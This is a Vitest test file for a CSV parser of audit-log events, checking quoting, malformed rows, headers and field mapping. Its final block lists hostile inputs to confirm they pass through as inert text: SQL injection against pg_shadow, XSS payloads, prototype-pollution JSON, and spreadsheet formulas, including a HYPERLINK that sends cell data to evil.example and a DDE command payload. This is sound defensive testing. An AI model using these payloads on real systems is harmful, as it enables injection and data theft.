import { writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { validateEvent } from '@/lib/events/schema';
import { CSV_COLUMNS, readCsvRows } from './csv';
import { parseText, readRecords } from './index';
import { badRecords, chunked, collect, okRecords, tempDir } from './test-helpers';

const tmp = tempDir('csv');
afterAll(() => tmp.cleanup());

const csv = (text: string, sizes?: number[]) => collect(parseText(chunked(text, sizes), 'csv'));
/** RFC 4180 cell: quoted when it holds a comma, quote, CR or LF (or always, if asked). */
const cell = (value: string, always = false) =>
  always || /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
const HEADER = 'id,occurred_at,action';
const row = (id: string) => `${id},2026-01-15T09:30:00Z,user.update`;

describe('CSV reading (RFC 4180)', () => {
  it('reads quoted cells with commas, doubled quotes and line breaks, LF or CRLF', async () => {
    const text =
      [
        'a,b,c',
        'plain,"with, comma","say ""hi"""',
        '"multi',
        'line",,"crlf\r\ninside"',
        'last,"",x',
      ].join('\r\n') + '\r\n';
    for (const sizes of [undefined, [1], [2, 3]]) {
      const rows = [];
      for await (const r of readCsvRows(chunked(text, sizes))) rows.push(r);
      expect(rows).toEqual([
        { line: 1, raw: 'a,b,c', cells: ['a', 'b', 'c'] },
        {
          line: 2,
          raw: 'plain,"with, comma","say ""hi"""',
          cells: ['plain', 'with, comma', 'say "hi"'],
        },
        {
          line: 3,
          raw: '"multi\r\nline",,"crlf\r\ninside"',
          cells: ['multi\r\nline', '', 'crlf\r\ninside'],
        },
        { line: 6, raw: 'last,"",x', cells: ['last', '', 'x'] },
      ]);
    }
    const lf = [];
    for await (const r of readCsvRows(chunked('x,"a\nb"\ny,z'))) lf.push(r.cells);
    expect(lf).toEqual([
      ['x', 'a\nb'],
      ['y', 'z'],
    ]);
  });

  it('skips blank lines and keeps line numbers', async () => {
    const records = await csv([HEADER, '', row('a'), '\r', '', row('b'), ''].join('\n'));
    expect(records.map((r) => [r.line, r.ok && r.event.id])).toEqual([
      [3, 'a'],
      [6, 'b'],
    ]);
  });

  it('reports malformed rows at the line they start and reads on', async () => {
    const text = [
      HEADER, // 1
      row('a'), // 2
      'b,2026-01-15T09:30:00Z,user.up"date', // 3: quote inside an unquoted cell
      '"c"x,2026-01-15T09:30:00Z,user.update', // 4: text after the closing quote
      'd,2026-01-15T09:30:00Z', // 5: too few cells
      'e,2026-01-15T09:30:00Z,user.update,extra', // 6: too many cells
      'f,"multi', // 7: a real multi-line cell, but one cell short
      'line"', // 8
      row('g'), // 9
      '"h,2026-01-15T09:30:00Z,user.update', // 10: quote never closed ...
      row('i'), // 11 ... so this row must be read again
      'j,"a ""quoted"" cell', // 12: valid
      'spanning lines",x', // 13
      row('k'), // 14
      '"l,never closed', // 15: unterminated at the end of the file
      row('m'), // 16
    ].join('\n');
    const expected = [
      [2, 'a'],
      [3, 'quote inside an unquoted cell (cell 3)'],
      [4, 'text after the closing quote (cell 1)'],
      [5, 'expected 3 cells (one per header column), found 2'],
      [6, 'expected 3 cells (one per header column), found 4'],
      [7, 'expected 3 cells (one per header column), found 2'],
      [9, 'g'],
      [10, 'text after the closing quote (cell 1)'],
      [11, 'i'],
      [12, 'j'],
      [14, 'k'],
      [15, 'unterminated quoted cell (the file ends inside quotes)'],
      [16, 'm'],
    ];
    for (const sizes of [undefined, [1], [3, 7]]) {
      const records = await csv(text, sizes);
      expect(records.map((r) => [r.line, r.ok ? r.event.id : r.reason])).toEqual(expected);
    }
    const records = await csv(text);
    expect(badRecords(records).find((r) => r.line === 7)?.raw).toBe('f,"multi\nline"');
    expect(okRecords(records).find((r) => r.line === 12)?.event.occurred_at).toBe(
      'a "quoted" cell\nspanning lines',
    );
  });

  it('caps a runaway quoted cell and resynchronises', async () => {
    const huge = 'x'.repeat(1024 * 1024);
    const lines = [HEADER, '"a,never closed'];
    for (let i = 0; i < 5; i++) lines.push(huge);
    lines.push(row('b'));
    const records = await csv(lines.join('\n'));
    expect(records[0]).toMatchObject({
      ok: false,
      line: 2,
      reason: expect.stringMatching(/^unterminated quoted cell/),
    });
    expect(records.at(-1)).toMatchObject({ ok: true, line: 8, event: { id: 'b' } });
  });
});

describe('CSV header', () => {
  it('refuses a file with an unknown column, naming it', async () => {
    await expect(csv(`${HEADER},passwd\n${row('a')},x`)).rejects.toThrow(/unknown column "passwd"/);
    await expect(csv(`${HEADER},__proto__\n`)).rejects.toThrow(/"__proto__"/);
  });

  it('refuses a missing required column, a repeated or empty name and a malformed header', async () => {
    await expect(csv('id,action\n')).rejects.toThrow(/missing required column occurred_at/);
    await expect(csv(`${HEADER},id\n`)).rejects.toThrow(/"id" appears twice/);
    await expect(csv(`${HEADER},\n`)).rejects.toThrow(/column 4 has no name/);
    await expect(csv('id,"occurred_at\n')).rejects.toThrow(/header \(line 1\) is malformed/);
  });

  it('accepts any order, any case, surrounding spaces and a byte-order mark', async () => {
    writeFileSync(
      tmp.file('bom.csv'),
      `\uFEFF Action ,ID,Occurred_At\r\nuser.update,a,2026-01-15T09:30:00Z\r\n`,
    );
    const [r] = await collect(readRecords(tmp.file('bom.csv'), 'csv'));
    expect(r).toMatchObject({
      ok: true,
      line: 2,
      event: { id: 'a', action: 'user.update', occurred_at: '2026-01-15T09:30:00Z' },
    });
  });

  it('yields nothing for an empty file', async () => {
    expect(await csv('')).toEqual([]);
    expect(await csv(`${HEADER}\n`)).toEqual([]);
  });
});

describe('CSV rows to events', () => {
  const full = CSV_COLUMNS.join(',');

  it('maps every column', async () => {
    const values: Record<string, string> = {
      id: 'evt-1',
      occurred_at: '2026-01-15T09:30:00.123+01:00',
      action: 'candidate.update',
      outcome: 'failure',
      actor_id: 'u-1',
      actor_name: 'Ada',
      actor_email: 'ada@example.com',
      actor_type: 'service',
      actor_ip: '203.0.113.9',
      actor_user_agent: 'Mozilla/5.0',
      actor_time_zone: 'Europe/Berlin',
      target_type: 'candidate',
      target_id: 'c-9',
      target_label: 'Grace',
      field: 'salary',
      old: '100',
      new: '{"amount": 120, "currency": "EUR"}',
      request_id: 'req-1',
      session_id: 'sess-1',
      reason: 'raise',
      metadata: '{"ticket": "HR-1", "tags": ["a"]}',
    };
    const [r] = await csv(`${full}\n${CSV_COLUMNS.map((c) => cell(values[c]!)).join(',')}`);
    expect(r).toEqual({
      ok: true,
      line: 2,
      flags: [],
      event: {
        id: 'evt-1',
        occurred_at: '2026-01-15T09:30:00.123+01:00',
        action: 'candidate.update',
        outcome: 'failure',
        actor: {
          id: 'u-1',
          name: 'Ada',
          email: 'ada@example.com',
          type: 'service',
          ip: '203.0.113.9',
          user_agent: 'Mozilla/5.0',
          time_zone: 'Europe/Berlin',
        },
        target: { type: 'candidate', id: 'c-9', label: 'Grace' },
        changes: [{ field: 'salary', old: 100, new: { amount: 120, currency: 'EUR' } }],
        request_id: 'req-1',
        session_id: 'sess-1',
        reason: 'raise',
        metadata: { ticket: 'HR-1', tags: ['a'] },
      },
    });
    expect(validateEvent(r!.ok && r!.event, 0).ok).toBe(true);
  });

  it('turns empty cells into null or absent fields', async () => {
    const [r] = await csv(`${full}\n${row('a')}${','.repeat(CSV_COLUMNS.length - 3)}`);
    expect(r).toEqual({
      ok: true,
      line: 2,
      flags: [],
      event: {
        id: 'a',
        occurred_at: '2026-01-15T09:30:00Z',
        action: 'user.update',
        actor: { id: null, name: null, email: null, ip: null, user_agent: null, time_zone: null },
        target: { type: null, id: null, label: null },
        changes: [],
        request_id: null,
        session_id: null,
        reason: null,
      },
    });
    const valid = validateEvent(r!.ok && r!.event, 0);
    expect(valid.ok && valid.event).toMatchObject({
      outcome: 'success',
      actor: { type: 'user' },
      metadata: {},
    });
    const [missing] = await csv(`${HEADER}\n,,`);
    const invalid = validateEvent(missing!.ok && missing!.event, 0);
    expect(invalid.ok ? [] : invalid.problems.map((p) => `${p.field} ${p.message}`)).toEqual([
      'id is required',
      'occurred_at is required',
      'action is required',
    ]);
  });

  it('parses old/new as JSON when they are JSON and keeps other text literally', async () => {
    const pairs: [string, unknown][] = [
      ['42', 42],
      ['-1.5', -1.5],
      ['true', true],
      ['null', null],
      ['"42"', '42'],
      ['[1,"a"]', [1, 'a']],
      ['', null],
      ['hello', 'hello'],
      [' 42', ' 42'],
      ['=1+1', '=1+1'],
      ['-1+1', '-1+1'],
      ['{"a":', '{"a":'],
      ['9007199254740993', '9007199254740993'],
      ['1e400', '1e400'],
    ];
    const text = [
      `${HEADER},field,old,new`,
      ...pairs.map(([v], i) => `${row(`r${i}`)},f,${cell(v)},`),
    ].join('\n');
    const records = okRecords(await csv(text));
    expect(records.map((r) => r.event.changes?.[0]?.old)).toEqual(pairs.map(([, v]) => v));
    expect(records.map((r) => r.event.changes?.[0]?.new)).toEqual(pairs.map(() => null));
    expect(records[12]!.flags).toEqual(['number_kept_as_string:old']);
    expect(records[13]!.flags).toEqual(['number_kept_as_string:old']);
  });

  it('keeps old/new without a field, so validation reports it', async () => {
    const [r] = await csv(`${HEADER},field,old,new\n${row('a')},,1,2`);
    expect(r!.ok && r!.event.changes).toEqual([{ field: '', old: 1, new: 2 }]);
    const v = validateEvent(r!.ok && r!.event, 0);
    expect(v.ok ? [] : v.problems.map((p) => p.field)).toEqual(['changes.0.field']);
  });

  it('does not merge rows that share an id', async () => {
    const records = okRecords(
      await csv(`${HEADER},field,old,new\n${row('a')},x,1,2\n${row('a')},y,3,4`),
    );
    expect(records.map((r) => [r.event.id, r.event.changes])).toEqual([
      ['a', [{ field: 'x', old: 1, new: 2 }]],
      ['a', [{ field: 'y', old: 3, new: 4 }]],
    ]);
  });

  it('refuses a metadata cell that is not a JSON object, and reads on', async () => {
    const records = await csv(
      `${HEADER},metadata\n${row('a')},[1]\n${row('b')},{oops\n${row('c')},"{""k"": 1}"`,
    );
    expect(records.map((r) => (r.ok ? r.event.metadata : r.reason))).toEqual([
      'metadata: must be a JSON object or empty',
      expect.stringMatching(/^metadata: invalid JSON: /),
      { k: 1 },
    ]);
  });

  it('flags an actor IP that is not an IP address and keeps it', async () => {
    const records = okRecords(
      await csv(
        `${HEADER},actor_ip\n${row('a')},225.01.00.16\n${row('b')},10.0.0.1\n${row('c')},::1`,
      ),
    );
    expect(records.map((r) => [r.event.actor.ip, r.flags])).toEqual([
      ['225.01.00.16', ['invalid_ip:225.01.00.16']],
      ['10.0.0.1', []],
      ['::1', []],
    ]);
  });
});

describe('CSV hostile values', () => {
  // From docs/security.md. A lone surrogate cannot be written as UTF-8 (it becomes U+FFFD), so
  // it is only checked on text that never went through a file.
  const hostile = [
    "' OR '1'='1",
    "'; DROP TABLE audit_events;--",
    '1; SELECT pg_sleep(5)--',
    "' UNION SELECT null,usename,passwd FROM pg_shadow--",
    '$$; DROP TABLE x; $$',
    'actor:"x\\" OR 1=1 --"',
    'sort:created_at;DROP TABLE x',
    '""',
    '((((a',
    '__proto__:1',
    '%_\\',
    '<script>window.__pwned=1</script>',
    '<img src=x onerror="window.__pwned=1">',
    '"><svg onload=alert(1)>',
    'javascript:alert(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    '=1+1',
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    '+1+1',
    '-1+1',
    '@SUM(1,2)',
    "=cmd|'/c calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    'a "quoted", comma\nand newline\r\nand CRLF',
    'line\u2028separator',
    '\x1b[31mred\x1b[0m',
    'nul\u0000byte',
    'аdmin',
    'zero\u200Bwidth',
    'rtl\u202Eoverride',
    'é vs e\u0301',
    '{"__proto__":{"isAdmin":true}}',
    '9007199254740993',
    'x'.repeat(100_000),
  ];
  const columns = `${HEADER},actor_name,target_label,reason,field,old,new`;
  const build = (values: string[], always: boolean) =>
    [
      columns,
      ...values.map((v, i) =>
        [
          cell(`h${i}`),
          cell('2026-01-15T09:30:00Z'),
          'user.update',
          ...[v, v, v, 'f', JSON.stringify(v), v].map((c) => cell(c, always)),
        ].join(','),
      ),
    ].join('\r\n') + '\r\n';
  const check = (records: Awaited<ReturnType<typeof csv>>, values: string[]) => {
    expect(badRecords(records)).toEqual([]);
    const events = okRecords(records).map((r) => r.event);
    expect(events).toHaveLength(values.length);
    events.forEach((event, i) => {
      const v = values[i]!;
      expect(event.actor.name).toBe(v);
      expect(event.target?.label).toBe(v);
      expect(event.reason).toBe(v);
      expect(event.changes?.[0]?.old).toBe(v); // JSON-encoded cell: exactly the string
      // A bare cell is JSON when it parses, else the literal text.
      let expectedNew: unknown = v;
      try {
        if (v === v.trim()) expectedNew = JSON.parse(v);
      } catch {
        expectedNew = v;
      }
      if (v === '9007199254740993') expectedNew = v;
      expect(event.changes?.[0]?.new).toEqual(expectedNew);
    });
  };

  it('round-trip exactly through a file (plain and gzipped)', async () => {
    for (const always of [false, true]) {
      const text = build(hostile, always);
      writeFileSync(tmp.file('hostile.csv'), text);
      writeFileSync(tmp.file('hostile.csv.gz'), gzipSync(text));
      check(await collect(readRecords(tmp.file('hostile.csv'), 'csv')), hostile);
      check(await collect(readRecords(tmp.file('hostile.csv.gz'), 'csv')), hostile);
    }
  });

  it('round-trip exactly from text, including a lone surrogate, whatever the chunking', async () => {
    const values = [...hostile, 'lone\uD800surrogate'];
    const text = build(values, false);
    check(await csv(text), values);
    check(await csv(text, [1, 2, 3, 5, 8, 13]), values);
  });
});
